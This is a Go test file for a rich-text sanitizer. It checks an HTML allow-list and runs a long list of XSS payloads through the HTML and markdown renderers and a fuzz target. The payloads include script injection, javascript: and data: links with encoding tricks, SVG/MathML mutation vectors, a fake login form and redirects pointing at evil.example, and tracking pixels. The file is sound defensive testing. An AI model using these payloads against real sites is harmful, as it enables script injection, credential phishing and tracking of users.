package richtext

import (
	"net/url"
	"strings"
	"testing"

	"github.com/PuerkitoBio/goquery"
)

// allowedAttrs is the whole allow-list as seen from the outside: element → attributes.
var allowedAttrs = map[string]map[string]bool{
	"p": {}, "br": {}, "hr": {}, "em": {}, "strong": {}, "code": {}, "pre": {}, "blockquote": {},
	"ul": {}, "ol": {"start": true}, "li": {},
	"h2": {}, "h3": {}, "h4": {}, "h5": {}, "h6": {}, // h1 is demoted away
	"table": {}, "thead": {}, "tbody": {}, "tr": {},
	"th": {"align": true, "colspan": true, "rowspan": true},
	"td": {"align": true, "colspan": true, "rowspan": true},
	"a":  {"href": true, "rel": true, "target": true, "class": true}, // class: httpLinkClass only
}

// assertHarmless parses out and fails on any element, attribute or link the allow-list does not
// permit. It checks the parsed tree (what a browser would build), not string fragments.
func assertHarmless(t *testing.T, src, out string) {
	t.Helper()
	doc := parse(t, out)
	doc.Find("#root *").Each(func(_ int, s *goquery.Selection) {
		node := s.Get(0)
		attrs, ok := allowedAttrs[node.Data]
		if !ok {
			t.Errorf("input %q: element <%s> survived in %q", src, node.Data, out)
			return
		}
		for _, a := range node.Attr {
			if !attrs[a.Key] || a.Namespace != "" {
				t.Errorf("input %q: attribute %s on <%s> survived in %q", src, a.Key, node.Data, out)
			}
			if a.Key == "href" {
				u, err := url.Parse(a.Val)
				if err != nil || !(u.Scheme == "https" || u.Scheme == "http" || u.Scheme == "mailto") {
					t.Errorf("input %q: unsafe href %q survived", src, a.Val)
				}
			}
			if a.Key == "target" && a.Val != "_blank" {
				t.Errorf("input %q: target %q", src, a.Val)
			}
			if a.Key == "class" && a.Val != httpLinkClass {
				t.Errorf("input %q: class %q", src, a.Val)
			}
		}
		if node.Data == "a" {
			// A mailto link opens no window, so bluemonday gives it no target and no noopener.
			_, blank := s.Attr("target")
			if rel, _ := s.Attr("rel"); blank && !strings.Contains(rel, "noopener") || !strings.Contains(rel, "noreferrer") || !strings.Contains(rel, "nofollow") {
				t.Errorf("input %q: link rel %q", src, rel)
			}
			if href, _ := s.Attr("href"); !blank && !strings.HasPrefix(href, "mailto:") {
				t.Errorf("input %q: link to %q without target", src, href)
			}
		}
	})
	// Belt and braces: no markup of these kinds in the serialised output at all (text that
	// merely mentions them is escaped, so it starts with "&lt;", not "<").
	low := strings.ToLower(out)
	for _, bad := range []string{"<script", "<style", "<iframe", "<svg", "<math", "<form", "<meta", "<base", "<object", "<embed", "<img", "<input", "<link"} {
		if strings.Contains(low, bad) {
			t.Errorf("input %q: output contains %q: %q", src, bad, out)
		}
	}
}

// attacks are inputs a hostile or careless service owner could send. Each is rendered as HTML
// and as markdown.
var attacks = []string{
	`<script>alert(1)</script>`,
	`<SCRIPT SRC=https://evil.example/x.js></SCRIPT>`,
	`<scr<script>ipt>alert(1)</scr</script>ipt>`,
	`<img src=x onerror=alert(1)>`,
	`<p onclick="alert(1)" onmouseover=alert(1)>click</p>`,
	`<body onload=alert(1)>`,
	`<a href="javascript:alert(1)">x</a>`,
	`<a href="JaVaScRiPt:alert(1)">x</a>`,
	`<a href=" javascript:alert(1)">x</a>`,
	`<a href="jav&#x09;ascript:alert(1)">x</a>`,
	`<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>`,
	`<a href="&#x6A;avascript&colon;alert(1)">x</a>`,
	`<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`,
	`<a href="vbscript:msgbox(1)">x</a>`,
	`<a href="/logout">relative</a>`,
	`<a href="//evil.example/">protocol relative</a>`,
	`<a href="https://ok.example/" onclick="steal()" style="position:fixed">x</a>`,
	`<form action="https://evil.example/"><input name=pw type=password><button>Log in</button></form>`,
	`<iframe src="https://evil.example/"></iframe>`,
	`<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
	`<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">`,
	`<style>body{display:none}</style><p>x</p>`,
	`<p style="background:url(javascript:alert(1))">x</p>`,
	`<div style="width:expression(alert(1))">x</div>`,
	`<link rel=stylesheet href="https://evil.example/x.css">`,
	`<p style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</p>`,
	`<svg onload=alert(1)><circle r=10 /></svg>`,
	`<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`,
	`<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
	`<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
	`<base href="https://evil.example/">`,
	`<img src="https://tracker.example/pixel.gif">`,
	`<details open ontoggle=alert(1)>`,
	`<a href="https://ok.example/" target="_top">x</a>`,
	`<table><tr><td background="javascript:alert(1)" style="color:red">x</td></tr></table>`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
	`<!--<img src=x onerror=alert(1)>-->`,
	`<![CDATA[<script>alert(1)</script>]]>`,
	`<textarea><script>alert(1)</script></textarea>`,
	`<template><script>alert(1)</script></template>`,
	`<input autofocus onfocus=alert(1)>`,
	`<button formaction="javascript:alert(1)">x</button>`,
	`<video><source onerror=alert(1)></video>`,
	// Markdown-shaped attacks, and markdown wrapped around HTML.
	`[x](javascript:alert(1))`,
	`[x](JAVASCRIPT:alert(1))`,
	`[x](javascript&#58;alert(1))`,
	`[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
	`![x](https://tracker.example/pixel.gif)`,
	`![x](javascript:alert(1))`,
	`<javascript:alert(1)>`,
	`[x]: javascript:alert(1)` + "\n\n[x]",
	"# <script>alert(1)</script>",
	"> <iframe src=https://evil.example/>",
	"- <img src=x onerror=alert(1)>",
	"| a |\n|---|\n| <script>alert(1)</script> |",
	"```\n</code></pre><script>alert(1)</script>\n```",
	"*<a href=javascript:alert(1)>x</a>*",
	`[x](https://ok.example/ "title" onclick=alert(1))`,
}

func TestAttacksAreHarmless(t *testing.T) {
	t.Parallel()
	r := New()
	for _, src := range attacks {
		assertHarmless(t, src, string(r.HTML(src)))
		assertHarmless(t, src, string(r.Markdown(src)))
		assertHarmless(t, src, string(r.Plain(src)))
	}
}

func TestKeepsSafeLinkFromMixedAttack(t *testing.T) {
	t.Parallel()
	out := string(New().HTML(`<a href="https://ok.example/" onclick="steal()" style="x">ok</a>`))
	doc := parse(t, out)
	if got, _ := doc.Find("a").Attr("href"); got != "https://ok.example/" {
		t.Errorf("href = %q, want https://ok.example/ (out %q)", got, out)
	}
	if got := doc.Find("a").Text(); got != "ok" {
		t.Errorf("text = %q, want ok", got)
	}
}

func TestScriptTextDropped(t *testing.T) {
	t.Parallel()
	for _, src := range []string{`<script>alert(1)</script>`, `<style>p{}</style>`} {
		if out := string(New().HTML(src)); strings.TrimSpace(out) != "" {
			t.Errorf("HTML(%q) = %q, want empty", src, out)
		}
	}
}

// FuzzRender checks the policy invariants on arbitrary input (go test -fuzz FuzzRender): only
// allowed markup, balanced, contained in its box, nested no deeper than the limits allow.
func FuzzRender(f *testing.F) {
	for _, a := range append(attacks, unbalanced...) {
		f.Add(a)
	}
	r := New()
	f.Fuzz(func(t *testing.T, src string) {
		for _, out := range []string{string(r.HTML(src)), string(r.Markdown(src))} {
			assertHarmless(t, src, out)
			assertContained(t, src, out)
			if d := maxDepth(t, out); d > deepOutput {
				t.Errorf("input %q: output nests %d deep", src, d)
			}
		}
	})
}
